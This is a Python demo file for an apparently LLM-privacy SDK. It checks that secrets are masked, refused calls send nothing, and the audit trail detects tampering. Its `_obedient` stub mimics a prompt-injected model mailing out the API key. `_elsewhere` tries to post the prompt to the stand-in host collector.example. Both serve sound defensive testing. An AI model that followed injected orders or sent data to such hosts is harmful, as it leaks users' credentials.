"""What the demo does: real calls through the real SDK. Everything it later shows or claims is taken from here."""

# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import json
import shutil
import tempfile
import time
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

from safellm.cli import demo_text
from safellm.cli.demo_stage import ACCOUNT, DECLARED, LOCAL, Stage, Wire
from safellm.cli.world import look
from safellm.errors import Refused
from safellm.testing.canary import sweep

if TYPE_CHECKING:
    from safellm._core.effects import JSON
    from safellm._core.verify import Verification
    from safellm.stores.ledger.interface import Balance

_TOOL: Final = {
    "type": "function",
    "function": {
        "name": "send_mail",
        "description": "Send a mail.",
        "parameters": {
            "type": "object",
            "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
            "required": ["to", "body"],
        },
    },
}
_REFUSALS: Final = 2  # that many are tried
_TRIES: Final = 3  # the smallest model copies about 19 placeholders of 20
_ELSEWHERE: Final = "https://collector.example/v1/chat/completions"  # RFC 2606: belongs to nobody


@dataclass(frozen=True, slots=True, kw_only=True)
class Check:
    """One claim of the demo, and whether it held."""

    claim: str
    ok: bool


@dataclass(frozen=True, slots=True, kw_only=True)
class Refusal:
    """A call that was refused: what was tried, and the error that the program got."""

    tried: str
    error: Refused
    kinds: tuple[str, ...]  # names of the classes that catch it
    sent: int  # requests that left


@dataclass(frozen=True, slots=True, kw_only=True)
class Tool:
    """Arguments of a tool call on both sides of the guard."""

    name: str
    asked: dict[str, str] = field(repr=False)
    got: dict[str, str] = field(repr=False)


@dataclass(slots=True, kw_only=True)
class Story:
    """What happened, in order."""

    stage: Stage
    prompt: demo_text.Prompt
    wire: Wire | None = None
    answer: str = ""
    garbled: int = 0  # conversations in which the model did not copy the placeholder
    pieces_wire: tuple[str, ...] = ()
    pieces_got: tuple[str, ...] = ()
    tool: Tool | None = None
    refusals: list[Refusal] = field(default_factory=list)
    balances: list[Balance] = field(default_factory=list)
    records: list[dict[str, JSON]] = field(default_factory=list)
    verification: Verification | None = None
    tampered: Verification | None = None
    checks: list[Check] = field(default_factory=list)
    trail: Path | None = None

    @property
    def ok(self) -> bool:
        """Whether every claim held."""
        return bool(self.checks) and all(check.ok for check in self.checks)

    def claim(self, claim: str, ok: bool) -> None:
        """Note a claim and whether it holds."""
        self.checks.append(Check(claim=claim, ok=ok))


def run(stage: Stage) -> Story:
    """Make the calls and check what they prove.

    Raises:
        openai.OpenAIError: the provider failed.
    """
    local = stage.model == LOCAL
    story = Story(stage=stage, prompt=demo_text.make_prompt(short=local, first=stage.home is None))
    _talk(story, tries=_TRIES if local else 1)
    if not local:  # a model this small can't fill in a tool call
        _tool_call(story)
    _over_budget(story)
    _elsewhere(story)
    _balances(story)
    _trail(story)
    _prove(story)
    return story


def _ask(story: Story, prompt: str, **more: Any) -> Any:
    stage = story.stage
    return stage.client.chat.completions.create(
        model=stage.model, messages=[{"role": "user", "content": prompt}], **more
    )


def _options(story: Story) -> dict[str, Any]:
    return {"temperature": 0, "max_tokens": 60} if story.stage.model == LOCAL else {}


def _talk(story: Story, *, tries: int) -> None:
    """Ask whole and streamed; again in a new conversation, with new placeholders, when a small model garbled one."""
    from safellm.stores.conversations import conversation

    for number in range(1, tries + 1):
        with conversation(f"safellm demo {number}"):
            _whole(story)
            _streamed(story)
        if _is_restored(story):
            return
        story.garbled += 1


def _whole(story: Story) -> None:
    reply = _ask(story, story.prompt.text, **_options(story))
    story.answer = reply.choices[0].message.content or ""
    story.wire = story.stage.wires[-1]


def _streamed(story: Story) -> None:
    stream = _ask(story, story.prompt.text, stream=True, **_options(story))
    story.pieces_got = tuple(piece for chunk in stream if chunk.choices and (piece := chunk.choices[0].delta.content))
    story.pieces_wire = tuple(_deltas(bytes(story.stage.wires[-1].answer)))


def _deltas(answer: bytes) -> list[str]:
    """Return the pieces of text in a recorded event stream."""
    found: list[str] = []
    for line in answer.decode("utf-8", "replace").splitlines():
        if line.startswith("data: {"):
            choices = json.loads(line.removeprefix("data: ")).get("choices") or [{}]
            piece = choices[0].get("delta", {}).get("content")
            if piece:
                found.append(piece)
    return found


def _tool_call(story: Story) -> None:
    provider, mail = story.stage.provider, story.prompt.secrets["EMAIL"]
    prompt = f"Send {mail} a mail. For reference: our API key is {story.prompt.secrets['SECRET']}."
    if provider is not None:
        provider.reply_with(_obedient)
    choice = {"type": "function", "function": {"name": "send_mail"}}
    reply = _ask(story, prompt, tools=[_TOOL], tool_choice=choice)
    call = reply.choices[0].message.tool_calls[0]
    raw = json.loads(bytes(story.stage.wires[-1].answer))["choices"][0]["message"]["tool_calls"][0]
    story.tool = Tool(
        name=call.function.name,
        asked=_arguments(raw["function"]["arguments"]),
        got=_arguments(call.function.arguments),
    )
    if provider is not None:
        provider.reply_with()


def _obedient(request: Any) -> Any:
    """Answer as a model that obeys an injected order: it puts everything it got into the mail."""
    from safellm.testing.replies import Reply, ToolCall

    found = demo_text.placeholders(request.json["messages"][-1]["content"])
    to = next((one for one in found if demo_text.kind_of(one) == "EMAIL"), "?")
    key = next((one for one in found if one != to), "?")
    return Reply(tool_calls=(ToolCall(name="send_mail", arguments={"to": to, "body": f"The key is {key}"}),))


def _arguments(text: str) -> dict[str, str]:
    value = json.loads(text)
    return {str(name): str(one) for name, one in value.items()}


def _refused(story: Story, tried: str, call: Any) -> None:
    before = len(story.stage.wires)
    try:
        call()
    except Refused as error:
        kinds = [one for one in type(error).__mro__ if one.__module__.startswith(("openai", "safellm.errors"))]
        names = tuple(f"{one.__module__.partition('.')[0]}.{one.__name__}" for one in kinds)
        story.refusals.append(Refusal(tried=tried, error=error, kinds=names, sent=len(story.stage.wires) - before))
        return
    story.claim(f"refused: {tried}", ok=False)


def _over_budget(story: Story) -> None:
    limit = next(
        one["tokens"] for one in story.stage.settings["budget"]["limits"] if "tokens" in one and one["name"] == ACCOUNT
    )
    _refused(
        story,
        f"A call with max_tokens={limit:,}, more than the budget has left",
        lambda: _ask(story, "Write a long story.", max_tokens=limit),
    )


def _elsewhere(story: Story) -> None:
    body = {"model": story.stage.model, "messages": [{"role": "user", "content": story.prompt.text}]}
    _refused(
        story,
        "A call of the same client to https://collector.example",
        lambda: story.stage.client.post(_ELSEWHERE, cast_to=object, body=body),
    )


def _balances(story: Story) -> None:
    world = look()
    ledger = world.open_ledger()
    driver = story.stage.client._client._transport.safellm_driver  # noqa: SLF001 - the limits in force for this client
    limits = [one for one in driver.tools.policy.budget_limits() if one.name == ACCOUNT]
    try:
        story.balances = ledger.balances(limits, now_ns=time.time_ns())
    finally:
        ledger.close()


def _trail(story: Story) -> None:
    from safellm.stores.journal.files import find, tail, verify_directory

    folder = story.trail = look().trail
    own = story.stage.home is not None
    story.records = tail(folder, 1000 if own else 2 * len(story.stage.wires) + len(story.refusals))
    story.verification = verify_directory(folder)
    if not own:
        return
    with tempfile.TemporaryDirectory(prefix="safellm-demo-") as name:
        for file in find(folder):
            copy = Path(shutil.copy(file.path, name))
            data = copy.read_bytes()
            copy.write_bytes(data.replace(b'"decision":"deny"', b'"decision":"pass"', 1))
        story.tampered = verify_directory(Path(name))


def _prove(story: Story) -> None:
    stage, prompt, hidden = story.stage, story.prompt, story.prompt.secrets
    body = story.wire.body.decode() if story.wire is not None else ""
    sent = [part for wire in stage.wires for part in (wire.url.encode(), wire.body)]
    if stage.provider is not None:
        arrived = [request.body for request in stage.provider.requests]
        story.claim("the provider received the bytes that are shown", arrived == [wire.body for wire in stage.wires])
        sent += stage.provider.received  # every byte of every connection, headers too
    leaks = [kind for kind, value in hidden.items() if sweep(value, texts=sent)]
    story.claim("mail address, card and API key never left: not raw, not encoded", not leaks)
    story.claim("no hidden character left", demo_text.count_hidden(prompt.text) > 0 and not _hidden_in(sent))
    kinds = sorted(
        {demo_text.kind_of(one) for one in demo_text.placeholders(json.loads(body)["messages"][-1]["content"])}
    )
    story.claim("each value left as a placeholder", kinds == sorted(hidden))
    story.claim("the program got the real values back", _is_restored(story))
    streamed = "".join(story.pieces_got)
    if stage.home is not None:
        story.claim("streamed and whole answer are the same text", streamed == story.answer)
    else:  # a provider's model says it in other words each time
        story.claim("the stream's text is the provider's with the values put back", streamed == _expected(story, body))
    if story.tool is not None:
        story.claim(f"{DECLARED} got its value, no other parameter did", _tool_is_right(story.tool, hidden))
    sent_nothing = not any(one.sent for one in story.refusals)
    story.claim("both refused calls sent nothing", len(story.refusals) == _REFUSALS and sent_nothing)
    story.claim("each refusal is the SDK's error and safellm.Refused", all(_is_both(one) for one in story.refusals))
    charged = [one.used for one in story.balances]
    story.claim(
        "the ledger charged the calls, and holds nothing",
        min(charged, default=0) > 0 and not any(b.held for b in story.balances),
    )
    story.claim("the audit trail is whole", story.verification is not None and story.verification.ok)
    if story.tampered is not None:
        story.claim("one changed word in a copy of it is found", not story.tampered.ok)
    if stage.home is not None:
        story.claim(
            "no value stands in trail or ledger", not any(sweep(value, paths=[stage.home]) for value in hidden.values())
        )
        header = story.wire.headers.get("authorization", "") if story.wire is not None else ""
        held = str(stage.client.api_key)
        story.claim("the provider got the key, the SDK object never had it", stage.key in header and held != stage.key)


def _hidden_in(sent: Sequence[bytes]) -> bool:
    texts = [part.decode("utf-8", "replace") for part in sent]
    # JSON may write them as escapes.
    return any(demo_text.count_hidden(text) or "\\udb40" in text.lower() or "\\u200b" in text.lower() for text in texts)


def _is_restored(story: Story) -> bool:
    if story.stage.provider is not None:
        return story.prompt.visible in story.answer
    return story.prompt.secrets["EMAIL"] in story.answer


def _expected(story: Story, body: str) -> str:
    """Return the recorded pieces with every placeholder of the request replaced by its value."""
    text = "".join(story.pieces_wire)
    for placeholder in demo_text.placeholders(body):
        text = text.replace(placeholder, story.prompt.secrets.get(demo_text.kind_of(placeholder), placeholder))
    return text


def _tool_is_right(tool: Tool, hidden: dict[str, str]) -> bool:
    others = [value for name, value in tool.got.items() if f"{tool.name}.{name}" != DECLARED]
    exposed = any(value in text for value in hidden.values() for text in others)
    return tool.got.get("to") == hidden["EMAIL"] and tool.asked.get("to") != hidden["EMAIL"] and not exposed


def _is_both(refusal: Refusal) -> bool:
    import openai

    return isinstance(refusal.error, openai.APIStatusError)
